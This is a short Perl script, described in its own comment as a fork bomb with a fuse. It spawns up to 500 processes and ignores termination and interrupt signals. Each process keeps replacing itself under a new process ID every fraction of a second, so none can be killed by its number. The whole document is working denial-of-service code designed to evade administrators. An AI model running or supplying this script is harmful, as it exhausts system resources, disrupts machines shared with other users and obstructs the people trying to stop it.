#!/usr/bin/perl
# A fork bomb with a fuse: 500 processes at most, each of which puts a new one in its place again and
# again, so that no pid lives long enough to be killed by its number.
use strict;
use warnings;

$SIG{$_} = 'IGNORE' for qw(TERM INT HUP CHLD);
my $main = $$;
for (1 .. 499) {
    my $pid = fork;
    last if defined $pid && $pid == 0;
}
while (1) {
    select undef, undef, undef, 0.2;
    next if $$ == $main;
    my $pid = fork;
    exit 0 if $pid;
}
